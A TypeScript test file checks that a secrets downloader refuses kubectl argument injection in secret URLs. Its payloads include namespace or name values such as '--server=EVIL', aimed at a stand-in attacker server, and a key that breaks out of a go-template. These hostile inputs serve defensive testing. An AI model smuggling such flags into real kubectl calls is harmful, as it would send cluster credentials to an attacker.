// kubectl argument injection: the namespace, secret name and key of secrets+*-import-kubernetes:// come from a values
// argument (in Argo CD, from the repository). A name like `--server=http://evil` must not reach kubectl as a flag
// (it would send the cluster credentials to that server), and a key must not escape the go-template. Real kubectl,
// against a stand-in API server that serves one secret; a second server stands for the attacker's.
import { strict as assert } from 'node:assert';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { testEnv } from '../helpers/env.js';
import { DISCOVERY } from '../helpers/fake-kube.js';
import { HS_VECTORS } from '../helpers/paths.js';
import { runCliAsync } from '../helpers/proc.js';
import { requireTool } from '../helpers/tools.js';

const AGE_FILE = join(HS_VECTORS, 'tests/assets/values/sops/secrets.age.yaml');
const AGE_KEY = readFileSync(join(HS_VECTORS, 'tests/assets/age/key.txt'));

interface Api {
  url: string;
  requests: string[];
  server: Server;
}

/** An API server (discovery, and GET .../namespaces/argocd/secrets/keys with one secret); records every request. */
async function startApi(): Promise<Api> {
  const requests: string[] = [];
  const server = createServer((req, res) => {
    requests.push(`${req.method} ${req.url} auth=${req.headers.authorization ?? ''}`);
    res.setHeader('Content-Type', 'application/json');
    const path = (req.url ?? '').split('?')[0]!;
    if (req.method === 'GET' && DISCOVERY[path]) {
      res.end(JSON.stringify(DISCOVERY[path]));
      return;
    }
    if (req.method === 'GET' && path === '/api/v1/namespaces/argocd/secrets/keys') {
      res.end(JSON.stringify({ kind: 'Secret', apiVersion: 'v1', metadata: { name: 'keys', namespace: 'argocd' }, data: { 'key.txt': AGE_KEY.toString('base64') } }));
      return;
    }
    res.statusCode = 404;
    res.end(JSON.stringify({ kind: 'Status', apiVersion: 'v1', status: 'Failure', reason: 'NotFound', code: 404 }));
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, requests, server };
}

describe('robustness: no kubectl argument injection', function () {
  this.timeout(60000);
  let dir: string;
  let api: Api;
  let evil: Api;
  let env: NodeJS.ProcessEnv;

  before(async function () {
    requireTool(this, 'kubectl');
    dir = mkdtempSync(join(tmpdir(), 'hs-kubeargs-'));
    api = await startApi();
    evil = await startApi();
    const kubeconfig = join(dir, 'kubeconfig');
    writeFileSync(
      kubeconfig,
      `apiVersion: v1\nkind: Config\nclusters:\n- name: c\n  cluster:\n    server: ${api.url}\ncontexts:\n- name: c\n  context:\n    cluster: c\n    user: u\ncurrent-context: c\nusers:\n- name: u\n  user:\n    token: cluster-token-secret\n`,
      { mode: 0o600 },
    );
    env = testEnv({ KUBECONFIG: kubeconfig, SOPS_AGE_KEY_FILE: join(dir, 'none.txt'), HOME: dir });
  });
  after(async () => {
    await new Promise((r) => api?.server.close(r));
    await new Promise((r) => evil?.server.close(r));
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  const getter = (url: string) => runCliAsync(['downloader', '', '', '', url], { env });

  it('a valid namespace/name#key decrypts through real kubectl', async () => {
    const r = await getter(`secrets+age-import-kubernetes://argocd/keys#key.txt?${AGE_FILE}`);
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout.toString(), /global_age/);
    assert.ok(api.requests.some((q) => q.startsWith('GET /api/v1/namespaces/argocd/secrets/keys')), api.requests.join('\n'));
  });

  for (const [what, loc] of [
    ['a name that is a flag', 'argocd/--server=EVIL'],
    ['a namespace that is a flag', '--server=EVIL/keys'],
    ['a name without namespace that is a flag', '--server=EVIL'],
    ['a name with an upper-case letter', 'argocd/Keys'],
    ['a namespace with a dot', 'argo.cd/keys'],
  ] as const) {
    it(`refuses ${what}, and kubectl never contacts another server`, async () => {
      const before = api.requests.length;
      const r = await getter(`secrets+age-import-kubernetes://${loc.replace('EVIL', evil.url)}#key.txt?${AGE_FILE}`);
      assert.notEqual(r.code, 0);
      assert.deepEqual(evil.requests, [], 'kubectl talked to the attacker server');
      assert.equal(api.requests.length, before, 'kubectl was run');
      assert.match(r.stderr, /Kubernetes (namespace|secret name)/);
      assert.equal(r.stderr.trim().split('\n').length, 1, r.stderr);
    });
  }

  it('refuses a key that would break out of the go-template', async () => {
    const before = api.requests.length;
    const r = await getter(`secrets+age-import-kubernetes://argocd/keys#x" }}{{ .metadata.name }}{{ "?${AGE_FILE}`);
    assert.notEqual(r.code, 0);
    assert.equal(api.requests.length, before);
    assert.match(r.stderr, /Kubernetes secret key/);
  });
});
